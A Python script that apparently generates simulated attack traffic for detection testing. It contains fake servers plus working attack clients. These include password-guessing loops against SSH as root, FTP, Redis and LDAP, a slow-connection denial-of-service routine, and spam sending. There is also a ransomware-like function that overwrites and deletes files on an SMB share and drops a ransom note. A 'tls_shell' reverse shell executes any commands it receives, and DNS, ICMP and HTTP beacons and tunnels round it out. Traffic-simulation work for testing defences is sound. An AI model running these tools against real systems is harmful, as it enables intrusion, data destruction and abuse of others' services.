#!/usr/bin/env python3
"""What no package of Debian or npm does, for further.sh: small servers, and programs that talk as the published ones do.  further.py NAME ARGUMENTS..."""
import base64
import http.server
import json
import os
import random
import socket
import ssl
import struct
import sys
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))


def serve(port, talk, family=socket.AF_INET):
    """One thread for each connection; `talk` gets the socket."""
    def guarded(s):
        try:
            talk(s)
        except OSError:
            pass
        finally:
            s.close()
    with socket.create_server(("", int(port)), family=family, backlog=200) as listener:
        while True:
            s, _ = listener.accept()
            threading.Thread(target=guarded, args=(s,), daemon=True).start()


def http_server(port, answers, key=None):
    """`answers` maps a path's beginning to (status, headers, body)."""
    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do(self):
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            status, headers, body = next((v for k, v in answers.items() if self.path.startswith(k)), (404, {}, b"not found"))
            self.send_response(status)
            for k, v in headers.items():
                self.send_header(k, v)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
        do_GET = do_POST = do_PUT = do_DELETE = do

        def log_message(self, *_):
            pass
    server = http.server.ThreadingHTTPServer(("", int(port)), Handler)
    if key:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(key + ".crt", key + ".key")
        server.socket = context.wrap_socket(server.socket, server_side=True)
    server.serve_forever()


# Servers

def management(port):
    """Answers of remote management, a registry, a scheduler and a service catalogue: 401, or as if it were open."""
    http_server(port, {
        "/wsman": (401, {"WWW-Authenticate": 'Basic realm="WSMAN"', "Server": "Microsoft-HTTPAPI/2.0"}, b""),
        "/v2/": (401, {"WWW-Authenticate": 'Basic realm="Registry Realm"', "Docker-Distribution-Api-Version": "registry/2.0"}, b'{"errors":[{"code":"UNAUTHORIZED","message":"authentication required"}]}'),
        "/ws/v1/cluster/apps/new-application": (200, {"Content-Type": "application/json"}, b'{"application-id":"application_1700000000000_0007","maximum-resource-capability":{"memory":8192,"vCores":4}}'),
        "/ws/v1/cluster/apps": (202, {"Content-Type": "application/json"}, b""),
        "/v1/agent/service/register": (200, {"Content-Type": "application/json"}, b""),
        "/v1/agent/self": (200, {"Content-Type": "application/json"}, b'{"Config":{"Datacenter":"dc1","NodeName":"node1","Version":"1.2.0"}}'),
    })


def cluster(port, key):
    """A cluster's API over TLS that knows no token."""
    http_server(port, {"/": (401, {"Content-Type": "application/json"}, b'{"kind":"Status","apiVersion":"v1","status":"Failure","message":"Unauthorized","reason":"Unauthorized","code":401}')}, key)


def kept_files(port):
    def talk(s):
        s.sendall(b"220 ProFTPD 1.3.5 Server ready\r\n")
        for line in s.makefile("rb"):
            word = line.decode(errors="replace").upper()
            s.sendall(b"350 File or directory exists, ready for destination name\r\n" if "CPFR" in word else b"250 Copy successful\r\n" if "CPTO" in word else b"331 Password required\r\n" if word.startswith("USER") else b"500 not understood\r\n")
    serve(port, talk)


def chat(port):
    def talk(s):
        s.sendall(b":irc.works.example NOTICE AUTH :*** Looking up your hostname...\r\n")
        while s.recv(4096):
            pass
    serve(port, talk)


def mailbox(port):
    """IMAP that takes everybody and everything."""
    def talk(s):
        f = s.makefile("rb")
        s.sendall(b"* OK IMAP4rev1 ready\r\n")
        while line := f.readline():
            tag = line.split(b" ")[0]
            if line.rstrip().endswith(b"}"):
                size = int(line.rstrip()[:-1].rsplit(b"{", 1)[1].rstrip(b"+"))
                s.sendall(b"+ go ahead\r\n")
                f.read(size)
                f.readline()
            if b"CAPABILITY" in line.upper():
                s.sendall(b"* CAPABILITY IMAP4rev1\r\n")
            s.sendall(tag + b" OK done\r\n")
    serve(port, talk)


def pool(port):
    """A mining pool as Ethereum's proxies speak with it: jobs every few seconds."""
    def talk(s):
        lock = threading.Lock()

        def say(message):
            with lock:
                s.sendall(json.dumps(message).encode() + b"\n")

        def work():
            while True:
                time.sleep(random.uniform(4, 9))
                say({"id": 0, "jsonrpc": "2.0", "result": ["0x" + os.urandom(32).hex() for _ in range(3)]})
        threading.Thread(target=lambda: quiet(work), daemon=True).start()
        for line in s.makefile("rb"):
            say({"id": json.loads(line)["id"], "jsonrpc": "2.0", "result": True})
    serve(port, talk)


def relay(port):
    def talk(s):
        f = s.makefile("rb")
        s.sendall(b"220 mx ESMTP\r\n")
        while line := f.readline():
            word = line.upper()
            if word.startswith(b"DATA"):
                s.sendall(b"354 go\r\n")
                while f.readline() not in (b".\r\n", b""):
                    pass
            s.sendall(b"221 bye\r\n" if word.startswith(b"QUIT") else b"250 ok\r\n")
    serve(port, talk)


def orders(port, pause, key=""):
    """The other end of a shell: an order every `pause` seconds, typed by nobody."""
    context = None
    if key:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(key + ".crt", key + ".key")

    def talk(s):
        s = context.wrap_socket(s, server_side=True) if context else s
        threading.Thread(target=lambda: quiet(lambda: [s.recv(4096) for _ in range(10000)]), daemon=True).start()
        while True:
            time.sleep(float(pause) * random.uniform(0.6, 1.4))
            s.sendall(random.choice(["id", "uname -a", "ls -la /etc | head -40", "cat /etc/passwd", "ps aux | head -20", "df -h", "netstat -an"]).encode() + b"\n")
    serve(port, talk)


def quiet(work):
    try:
        work()
    except (OSError, ValueError):
        pass


# Passwords

def secret(i):
    return f"{random.choice(['summer', 'winter', 'dragon', 'shadow', 'monkey', 'hunter'])}{1980 + i}"


def irc(target, port, count, pause):
    for i in range(int(count)):
        with socket.create_connection((target, int(port)), 5) as s:
            s.settimeout(4)
            s.sendall(f"PASS {secret(i)}\r\nNICK a{i}\r\nUSER a 0 * :a\r\n".encode())
            quiet(lambda: [s.recv(4096) for _ in range(3)])
        time.sleep(float(pause))


def ldap_one(target, count, pause):
    """All in one connection: bind after bind."""
    import ldap3
    c = ldap3.Connection(ldap3.Server(f"ldap://{target}"), user="cn=admin,dc=works,dc=example", password="first")
    c.bind()
    for i in range(int(count)):
        try:
            c.rebind(password=secret(i))
        except ldap3.core.exceptions.LDAPException:
            pass
        time.sleep(float(pause))


def redis_one(target, count, pause):
    with socket.create_connection((target, 6379), 5) as s:
        for i in range(int(count)):
            s.sendall(f"AUTH {secret(i)}\r\n".encode())
            s.recv(4096)
            time.sleep(float(pause))


def paramiko_try(target, count, pause):
    import logging
    import paramiko
    logging.getLogger("paramiko").setLevel(logging.CRITICAL)
    for i in range(int(count)):
        c = paramiko.SSHClient()
        c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
        try:
            c.connect(target, username="root", password=secret(i), look_for_keys=False, allow_agent=False, timeout=5)
        except (paramiko.SSHException, OSError, EOFError):
            pass
        finally:
            c.close()
        time.sleep(float(pause))


def ftp_try(target, count, pause):
    import ftplib
    for i in range(int(count)):
        try:
            with ftplib.FTP(target, "backup", secret(i), timeout=8):
                pass
        except ftplib.all_errors:
            pass
        time.sleep(float(pause))


# Slow attacks: connections that are kept and say next to nothing

def hold(target, port, count, seconds, pause, *words):
    """`words` one after the other (hex), each `pause` seconds after the last, over and over the last one."""
    open_ones = []
    for _ in range(int(count)):
        try:
            s = socket.create_connection((target, int(port)), 5)
            s.settimeout(0)
            open_ones.append(s)
        except OSError:
            pass
        time.sleep(0.05)
    end, i = time.time() + float(seconds), 0
    while time.time() < end:
        word = bytes.fromhex(words[min(i, len(words) - 1)])
        for s in open_ones:
            quiet(lambda: s.send(word))
        i += 1
        time.sleep(float(pause))


# Malware

def lock(target, share, count):
    """Reads each file of a share, writes it anew under another name and removes it (smbclient's library)."""
    from impacket.smbconnection import SMBConnection
    c = SMBConnection(target, target)
    c.login("", "")
    for i in range(int(count)):
        kept = []
        c.getFile(share, f"doc{i}.docx", kept.append)
        data = bytes(random.randbytes(len(b"".join(kept))))
        at = [0]

        def more(n):
            piece = data[at[0]:at[0] + n]
            at[0] += n
            return piece
        c.putFile(share, f"doc{i}.docx.locked", more)
        c.deleteFile(share, f"doc{i}.docx")
        time.sleep(0.15)
    note = [b"Your files are encrypted. Pay 0.5 BTC."]
    c.putFile(share, "HOW_TO_DECRYPT.txt", lambda _: note.pop() if note else b"")


def miner(target, port, seconds):
    with socket.create_connection((target, int(port)), 5) as s:
        s.sendall(json.dumps({"id": 1, "method": "eth_submitLogin", "params": ["0x" + os.urandom(20).hex(), "x"], "worker": "rig1"}).encode() + b"\n")
        s.settimeout(1)
        n, end = 2, time.time() + float(seconds)
        while time.time() < end:
            quiet(lambda: s.recv(4096))
            if random.random() < 0.2:
                s.sendall(json.dumps({"id": n, "method": "eth_submitWork" if n % 2 else "eth_submitHashrate", "params": ["0x" + os.urandom(8).hex(), "0x" + os.urandom(32).hex()], "worker": "rig1"}).encode() + b"\n")
                n += 1


def spam(targets, count, pause):
    """To each domain's exchanger itself, one message each."""
    import smtplib
    hosts = targets.split(",")
    for i in range(int(count)):
        try:
            with smtplib.SMTP(hosts[i % len(hosts)], 25, "win.example", 5) as m:
                m.sendmail(f"promo{random.randint(1, 999)}@win.example", [f"user{i}@d{i % 40}.example"], f"Subject: Prize {i}\r\n\r\nhttp://192.0.2.200/p?{i} claim now\r\n")
        except (OSError, smtplib.SMTPException):
            pass
        time.sleep(float(pause))


def generated(server, count, pause, kind):
    """Names that nobody registered, 14 letters, by A or AAAA."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    for i in range(int(count)):
        name = "".join(random.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(random.randint(11, 17)))
        s.sendto(query(name + random.choice([".com", ".net", ".org", ".info"]), int(kind)), (server, 53))
        quiet(lambda: s.recv(2000))
        time.sleep(float(pause) * random.uniform(0.5, 1.5))


def query(name, kind):
    return struct.pack("!HHHHHH", random.randrange(65536), 0x100, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack("!HH", kind, 1)


# Tunnels and masters

def drip(server, count, pause, letters, kind, zone):
    """A file, some letters a question, one question at a time."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    for i in range(int(count)):
        text = base64.b32encode(os.urandom(int(letters))).decode().lower().rstrip("=")[:int(letters)]
        s.sendto(query(f"{text}.{zone}", int(kind)), (server, 53))
        quiet(lambda: s.recv(2000))
        time.sleep(float(pause) * random.uniform(0.7, 1.3))


def icmp_beacon(target, count, pause):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)
    for i in range(int(count)):
        body = base64.b64encode(os.urandom(random.choice([24, 24, 24, 90])))
        head = struct.pack("!BBHHH", 8, 0, 0, 0x4b1d, i)
        total = sum(struct.unpack(f"!{len(head + body) // 2}H", head + body))
        total = (total >> 16) + (total & 0xFFFF)
        s.sendto(struct.pack("!BBHHH", 8, 0, ~(total + (total >> 16)) & 0xFFFF, 0x4b1d, i) + body, (target, 0))
        time.sleep(float(pause) * random.uniform(0.7, 1.3))


def poll_http(url, count, pause, jitter):
    """Python's own client asks for a task; what it got is done and told."""
    import urllib.request
    for i in range(int(count)):
        quiet(lambda: urllib.request.urlopen(url + "/tasks/7f3a91", timeout=5).read())
        if i % 4 == 3:
            quiet(lambda: urllib.request.urlopen(urllib.request.Request(url + "/results/7f3a91", json.dumps({"out": base64.b64encode(os.urandom(300)).decode()}).encode(), {"Content-Type": "application/json"}), timeout=5).read())
        time.sleep(float(pause) * (1 + random.uniform(-1, 1) * float(jitter)))


def poll_udp(target, port, count, pause, jitter):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(int(count)):
        s.sendto(os.urandom(random.choice([28, 28, 28, 60])), (target, int(port)))
        time.sleep(float(pause) * (1 + random.uniform(-1, 1) * float(jitter)))


def poll_tls(target, port, count, pause, jitter):
    """A fresh TLS connection for each call, no name in it."""
    context = ssl._create_unverified_context()
    for _ in range(int(count)):
        try:
            with context.wrap_socket(socket.create_connection((target, int(port)), 5)) as s:
                s.sendall(b"POST /c HTTP/1.1\r\nHost: x\r\nContent-Length: 64\r\nConnection: close\r\n\r\n" + os.urandom(64))
                s.recv(4096)
        except OSError:
            pass
        time.sleep(float(pause) * (1 + random.uniform(-1, 1) * float(jitter)))


def beat_tcp(target, port, count, pause, jitter):
    """One connection, a binary heartbeat now and then, an order now and then."""
    with socket.create_connection((target, int(port)), 5) as s:
        s.settimeout(0.2)
        for i in range(int(count)):
            s.sendall(struct.pack("!IHH", 0x01F00DBE, i, 8) + os.urandom(8))
            quiet(lambda: s.recv(4096))
            time.sleep(float(pause) * (1 + random.uniform(-1, 1) * float(jitter)))


def tls_shell(target, port):
    import subprocess
    s = ssl._create_unverified_context().wrap_socket(socket.create_connection((target, int(port))))
    while order := s.recv(4096):
        s.sendall(subprocess.run(order.decode(), shell=True, capture_output=True).stdout or b"-")


# Uploads

def in_addresses(url, count, pause, size):
    """A file inside the addresses of pages."""
    import urllib.request
    for i in range(int(count)):
        quiet(lambda: urllib.request.urlopen(f"{url}/pixel.gif?s=7f3a&n={i}&d=" + base64.urlsafe_b64encode(os.urandom(int(size))).decode(), timeout=5).read())
        time.sleep(float(pause))


def in_cookies(url, count, pause, size):
    import urllib.request
    for i in range(int(count)):
        quiet(lambda: urllib.request.urlopen(urllib.request.Request(f"{url}/news.html", headers={"Cookie": f"sid={i}; data=" + base64.b64encode(os.urandom(int(size))).decode()}), timeout=5).read())
        time.sleep(float(pause))


def append(target, count, size):
    import imaplib
    with imaplib.IMAP4(target, 143) as m:
        m.login("drop", "drop")
        for i in range(int(count)):
            m.append("INBOX", None, None, b"Subject: part %d\r\n\r\n" % i + base64.encodebytes(os.urandom(int(size))).replace(b"\n", b"\r\n"))


def pieces(url, count, size, pause):
    """PUT after PUT, as multi-part uploads to object stores."""
    import urllib.request
    context = ssl._create_unverified_context()
    for i in range(int(count)):
        quiet(lambda: urllib.request.urlopen(urllib.request.Request(f"{url}/backup.zip?partNumber={i + 1}&uploadId=7f3a", os.urandom(int(size)), method="PUT"), timeout=20, context=context).read())
        time.sleep(float(pause))


def sftp_put(target, key, size):
    import paramiko
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    c.connect(target, username="root", key_filename=key)
    with c.open_sftp().open("/dev/null", "wb") as f:
        for _ in range(int(size) // 32768):
            f.write(os.urandom(32768))


def datagrams(target, port, count, size, pause):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(int(count)):
        s.sendto(os.urandom(int(size)), (target, int(port)))
        time.sleep(float(pause))


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
